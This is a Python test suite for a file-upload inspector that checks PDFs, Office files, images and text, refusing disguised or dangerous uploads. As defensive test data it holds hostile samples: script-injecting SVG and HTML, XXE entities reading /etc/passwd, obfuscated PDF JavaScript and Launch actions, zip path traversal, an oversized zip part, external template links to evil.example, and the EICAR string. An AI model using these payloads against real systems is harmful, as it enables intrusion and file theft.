import contextlib
import io
import struct
import time
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.files.inspection import UnfitFileError, inspect_file

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TYPES = {
    "docx": b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    "xlsx": b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "docm": b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
}
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def archive(parts: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return target.getvalue()


def office(kind: str, **more: bytes) -> bytes:
    parts = {name.replace("__", "/").replace("_x_", "."): content for name, content in more.items()}
    return archive({"[Content_Types].xml": TYPES[kind], "word/document.xml": b"<w/>", **parts})


def png(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(head)) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return b"\x89PNG\r\n\x1a\n" + chunk


def jpeg(width: int, height: int) -> bytes:
    app = b"\xff\xe0\x00\x10JFIF\x00" + bytes(9)
    frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + bytes(10)
    return b"\xff\xd8" + app + frame + b"\xff\xd9"


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("plan.pdf", PDF, "application/pdf"),
        ("plan.PDF", PDF, "application/pdf"),
        ("letter.docx", office("docx"), WORD),
        ("prices.xlsx", office("xlsx"), EXCEL),
        (
            "text.odt",
            archive({"mimetype": b"application/vnd.oasis.opendocument.text"}),
            "application/vnd.oasis.opendocument.text",
        ),
        ("map.png", png(800, 600), "image/png"),
        ("map.jpg", jpeg(800, 600), "image/jpeg"),
        ("map.jpeg", jpeg(800, 600), "image/jpeg"),
        ("prices.csv", "Tag,£\n1,2\n".encode(), "text/csv"),
        ("prices.csv", "Tag,£\n1,2\n".encode("cp1252"), "text/csv"),
        ("note.txt", b"\xef\xbb\xbfhello", "text/plain"),
        ("no ending", PDF, "application/pdf"),
        ("plan v1.2", PDF, "application/pdf"),
    ],
)
def test_harmless_kinds_are_told_from_their_bytes(name: str, content: bytes, kind: str) -> None:
    assert inspect_file(content, name) == kind


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("empty.pdf", b"", "empty"),
        ("run.exe", b"MZ\x90\x00", "must be"),
        ("page.html", b"<html></html>", "must be"),
        ("drawing.svg", b"<svg><script>alert(1)</script></svg>", "must be"),
        ("drawing.txt", b"  <svg onload=alert(1)>", "web page or drawing"),
        ("page.csv", b"<!DOCTYPE html><script>", "web page or drawing"),
        ("plan.pdf", b"GIF89a", "must be"),
        ("plan.pdf", png(2, 2), "The name says PDF"),
        ("photo.jpg", PDF, "The name says JPEG"),
        ("plan.hta", PDF.replace(b"<<>>", b"<<>><script>alert(1)</script>"), r"Rename it to end in \.pdf"),
        ("plan.pdf.html", PDF, "The name says “.html”"),
        ("photo.exe.", png(2, 2), "The name says “.exe”"),
        ("prices.csv.js ", PDF, "The name says “.js”"),
        ("plan.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root"), "encrypted"),
        ("plan.pdf", PDF.replace(b"<<>>", b"<</S/JavaScript/JS(x)>>"), "scripts"),
        ("plan.pdf", PDF.replace(b"<<>>", b"<</S/Launch /F(x)>>"), "scripts"),
        ("plan.pdf", PDF[:-8], "cut short"),
        ("both.pdf", PDF + archive({"a.txt": b"x"}), "two kinds"),
        ("both.png", png(2, 2) + archive({"a.txt": b"x"}), "two kinds"),
        ("both.docx", b"GIF89a" + office("docx"), "two kinds"),
        ("huge.png", png(50_000, 50_000), "100 million pixels"),
        ("none.png", png(0, 5), "damaged"),
        ("cut.png", png(5, 5)[:20], "damaged"),
        ("cut.jpg", b"\xff\xd8\xff\xe0\x00\x10", "damaged"),
        ("letter.docx", office("docm"), "macros"),
        ("letter.docx", office("docx", word__vbaProject_x_bin=b"x"), "macros or programs"),
        (
            "letter.docx",
            office("docx", word__a_x_xml=b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
            "outside it",
        ),
        ("letter.docx", archive({"[Content_Types].xml": TYPES["docx"], "../up.xml": b""}), "lead outside"),
        (
            "letter.docx",
            archive({"[Content_Types].xml": TYPES["docx"], "a.xml": bytes(30_000_000)}),
            "far more than its size",
        ),
        ("letter.docx", office("docx")[:-30], "must be"),
        ("old.doc", b"\xd0\xcf\x11\xe0" + bytes(500), "password-protected or in an old Office format"),
        ("stuff.zip", archive({"a.txt": b"x"}), "must be"),
        ("note.txt", b"a\0b", "not text"),
        ("note.txt", rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "virus"),
    ],
)
def test_what_hides_something_is_refused_with_the_reason(name: str, content: bytes, reason: str) -> None:
    with pytest.raises(UnfitFileError, match=reason):
        inspect_file(content, name)


def test_a_password_on_an_archive_is_seen() -> None:
    content = bytearray(office("docx"))
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    with pytest.raises(UnfitFileError, match="password"):
        inspect_file(bytes(content), "letter.docx")


def packed_by(method: int, content: bytes) -> bytes:
    """Make an archive that claims another method of packing than its content has."""
    made = bytearray(archive({"mimetype": content}, compression=zipfile.ZIP_STORED))
    made[8:10] = struct.pack("<H", method)
    at = made.rindex(b"PK\x01\x02")
    made[at + 10 : at + 12] = struct.pack("<H", method)
    return bytes(made)


@pytest.mark.parametrize("method", [9, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA, 99])
def test_archives_packed_as_no_office_program_packs_are_not_unpacked(method: int) -> None:
    with pytest.raises(UnfitFileError, match="packed in a way"):
        inspect_file(packed_by(method, b"\x09\x04\x05\x00\x5d" + b"\xff" * 60), "letter.docx")


def over_two_disks(content: bytes) -> bytes:
    """Put before an archive's end a locator that says the archive goes on on a second disk."""
    return content[:-22] + struct.pack("<4sLQL", b"PK\x06\x07", 1, 0, 2) + content[-22:]


@pytest.mark.parametrize(
    ("content", "name", "reason"),
    [
        (over_two_disks(office("docx")), "letter.docx", "^The file is damaged"),
        (PDF + over_two_disks(office("docx")), "plan.pdf", "two kinds"),
        (b"words" + over_two_disks(office("docx")), "note.txt", "two kinds"),
        (archive({"\u00e9.xml": b"x"}).replace(b"\xc3\xa9", b"\xff\xfe"), "letter.docx", "^The file is damaged"),
        (office("docx").replace(b"PK\x05\x06", b"PK\x05\x06\xff"), "letter.docx", "^The file"),
    ],
)
def test_traps_for_the_unpacker_are_refused_in_our_words(content: bytes, name: str, reason: str) -> None:
    with pytest.raises(UnfitFileError, match=reason):
        inspect_file(content, name)


@given(st.binary(max_size=3_000), st.sampled_from(["a.pdf", "a.docx", "a.png", "a.jpg", "a.csv", "a.txt", "a", ""]))
def test_no_bytes_whatever_make_the_inspection_fail(content: bytes, name: str) -> None:
    try:
        inspect_file(content, name)
    except UnfitFileError:
        return


@given(
    st.sampled_from([PDF, office("docx"), office("xlsx"), png(9, 9), jpeg(9, 9)]),
    st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), max_size=8),
)
def test_no_damage_to_a_good_file_makes_the_inspection_fail(good: bytes, changes: list[tuple[int, int]]) -> None:
    content = bytearray(good)
    for at, value in changes:
        content[at % len(content)] = value
    try:
        inspect_file(bytes(content), "file")
    except UnfitFileError:
        return


DOCTYPE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


@pytest.mark.parametrize(
    "part",
    [
        DOCTYPE.encode(),
        b"<?xml version='1.0'?><!-- " + b"x" * 70_000 + b" -->" + DOCTYPE.encode(),
        DOCTYPE.encode("utf-16"),
        b"\n" * 5_000 + DOCTYPE.replace("!DOCTYPE", "!DOCTYPE ").encode(),
    ],
    ids=["plain", "behind a long comment", "in UTF-16", "behind empty lines"],
)
def test_a_doctype_is_found_wherever_it_hides(part: bytes) -> None:
    with pytest.raises(UnfitFileError, match="refers to things outside it"):
        inspect_file(office("docx", word__styles_x_xml=part), "letter.docx")


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
def test_a_document_that_fetches_its_parts_from_elsewhere_is_refused(kind: str) -> None:
    relation = (
        f'<Relationships><Relationship Id="r1" TargetMode = "External" Target="https://evil.example/a.dotm"'
        f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
    ).encode()
    with pytest.raises(UnfitFileError, match="refers to things outside it"):
        inspect_file(office("docx", word___rels__settings_x_xml_x_rels=relation), "letter.docx")


def test_a_document_may_link_to_a_web_page() -> None:
    relation = (
        b'<Relationships><Relationship Id="r1" TargetMode="External" Target="https://example.org/"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
    )
    assert inspect_file(office("docx", word___rels__document_x_xml_x_rels=relation), "letter.docx") == WORD


@pytest.mark.parametrize("name", [b"/J#61vaScript", b"/#4a#53", b"/L#61unch", b"/#45ncrypt 3 0 R"])
def test_a_pdf_cannot_spell_its_scripts_differently(name: bytes) -> None:
    with pytest.raises(UnfitFileError):
        inspect_file(PDF.replace(b"obj<<", b"obj<<" + name + b" (app.alert(1))"), "plan.pdf")


MOST = 8 * 1024 * 1024


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", b"%PDF-1.4\n" + b"#41" * (MOST // 3) + b"%%EOF"),
        ("a.pdf", b"%PDF-1.4\n" + b"/" * MOST + b"%%EOF"),
        ("a.pdf", b"%PDF-1.4\n" + b"/#4a" * (MOST // 4) + b"%%EOF"),
        ("a.jpg", b"\xff\xd8\xff" + b"\xff" * MOST),
        ("a.jpg", b"\xff\xd8" + b"\xff\xe0\x00\x02" * (MOST // 4)),
        ("a.jpg", b"\xff\xd8" + b"\xff\xe0\x00\x00" * (MOST // 4)),
    ],
    ids=["escapes", "slashes", "half escapes", "padding", "segments", "empty segments"],
)
def test_no_file_of_any_size_is_looked_at_for_long(name: str, content: bytes) -> None:
    """Byte by byte these took seconds each, while every other page of the process waited."""
    began = time.perf_counter()
    with contextlib.suppress(UnfitFileError):
        inspect_file(content, name)
    assert time.perf_counter() - began < 1.5


def test_a_script_is_found_across_the_pieces_of_a_search() -> None:
    for gap in range(1024 * 1024 - 60, 1024 * 1024 + 4):
        with pytest.raises(UnfitFileError, match="scripts"):
            inspect_file(b"%PDF-1.4\n" + b" " * (gap - 9) + b"/J#61vaScript (x)\n%%EOF", "a.pdf")


def test_a_jpeg_of_many_ordinary_segments_is_still_an_image() -> None:
    frame = b"\xff\xc0\x00\x11\x08\x00\x10\x00\x10\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    segments = (b"\xff\xff\xff\xe1" + b"\x00\x04ab") * 500
    assert inspect_file(b"\xff\xd8" + segments + frame + b"\xff\xd9", "a.jpg") == "image/jpeg"
